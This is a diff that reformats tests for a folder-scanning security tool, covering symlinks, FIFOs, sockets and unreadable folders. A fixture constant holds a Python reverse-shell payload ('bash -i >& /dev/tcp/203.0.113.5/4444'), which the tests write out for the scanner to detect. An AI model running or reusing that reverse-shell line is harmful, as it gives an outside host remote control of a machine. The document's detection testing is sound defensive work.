@@ -20,8 +20,11 @@ EVIL = b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
 
 
 def pk(result: object) -> list[tuple[str, str, Severity, str]]:
-    return sorted((f.code, f.file, f.severity, f.message)  # type: ignore[attr-defined]
-                  for f in result.findings if f.code.startswith("PK"))  # type: ignore[attr-defined]
+    return sorted(
+        (f.code, f.file, f.severity, f.message)  # type: ignore[attr-defined]
+        for f in result.findings
+        if f.code.startswith("PK")
+    )  # type: ignore[attr-defined]
 
 
 def test_fifo_socket_and_device_link_are_skipped_never_opened(tmp_path: Path) -> None:
@@ -34,11 +37,22 @@ def test_fifo_socket_and_device_link_are_skipped_never_opened(tmp_path: Path) ->
         result = scan_folder("t", str(tmp_path))
     finally:
         sock.close()
-    assert result.errors == ["pipe: FIFO skipped (never opened)",
-                             "sock: socket skipped (never opened)"]
-    assert pk(result) == [("PK003", "zero", Severity.HIGH, ("symlink to file '/dev/zero' outside "
-                           "the scanned folder or missing: not followed, its content is not "
-                           "scanned"))]
+    assert result.errors == [
+        "pipe: FIFO skipped (never opened)",
+        "sock: socket skipped (never opened)",
+    ]
+    assert pk(result) == [
+        (
+            "PK003",
+            "zero",
+            Severity.HIGH,
+            (
+                "symlink to file '/dev/zero' outside "
+                "the scanned folder or missing: not followed, its content is not "
+                "scanned"
+            ),
+        )
+    ]
     assert ("CS101", "handler.py") in {(f.code, f.file) for f in result.findings}
     assert result.files_scanned == 1
 
@@ -56,9 +70,18 @@ def outside_link_tree(tmp_path: Path) -> Path:
 def test_symlinked_folder_leading_outside_is_high_and_fails_the_gate(tmp_path: Path) -> None:
     root = outside_link_tree(tmp_path)
     result = scan_folder("t", str(root))
-    assert pk(result) == [("PK003", "lib", Severity.HIGH, (f"symlink to folder "
-                           f"'{tmp_path / 'elsewhere'}' outside the scanned folder or missing: "
-                           "not followed, its content is not scanned"))]
+    assert pk(result) == [
+        (
+            "PK003",
+            "lib",
+            Severity.HIGH,
+            (
+                f"symlink to folder "
+                f"'{tmp_path / 'elsewhere'}' outside the scanned folder or missing: "
+                "not followed, its content is not scanned"
+            ),
+        )
+    ]
     run = CliRunner().invoke(scan, [str(root), "--format", "json", "--no-cache"])
     assert run.exit_code == 1  # default --fail-on high: the unscanned folder fails CI
 
@@ -69,8 +92,14 @@ def test_symlinked_folder_inside_is_medium_and_its_target_scanned(tmp_path: Path
     (root / "real" / "shell.py").write_bytes(EVIL)
     (root / "alias").symlink_to("real", target_is_directory=True)
     result = scan_folder("t", str(root))
-    assert pk(result) == [("PK003", "alias", Severity.MEDIUM, ("symlink to folder 'real' (not "
-                           "followed; scanned under its own name)"))]
+    assert pk(result) == [
+        (
+            "PK003",
+            "alias",
+            Severity.MEDIUM,
+            ("symlink to folder 'real' (not followed; scanned under its own name)"),
+        )
+    ]
     assert ("CS101", "real/shell.py") in {(f.code, f.file) for f in result.findings}
     assert result.files_scanned == 1
 
@@ -86,7 +115,8 @@ def test_a_folder_that_cannot_be_listed_is_a_high_finding(tmp_path: Path) -> Non
     reader = Reader()
     assert list(walk_folder(reader, str(tmp_path / "gone"))) == []
     assert [(i.meta.code, i.path, i.high, i.message) for i in reader.issues] == [
-        ("PK005", ".", True, "folder unreadable (No such file or directory): not scanned")]
+        ("PK005", ".", True, "folder unreadable (No such file or directory): not scanned")
+    ]
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root reads a mode-000 folder anyway")
@@ -98,8 +128,9 @@ def test_unreadable_sub_folder_is_a_high_finding(tmp_path: Path) -> None:
         result = scan_folder("t", str(tmp_path))
     finally:
         os.chmod(tmp_path / "locked", 0o755)
-    assert pk(result) == [("PK005", "locked", Severity.HIGH,
-                           "folder unreadable (Permission denied): not scanned")]
+    assert pk(result) == [
+        ("PK005", "locked", Severity.HIGH, "folder unreadable (Permission denied): not scanned")
+    ]
 
 
 def test_fifo_as_the_target_is_a_usage_error_not_a_hang(tmp_path: Path) -> None:
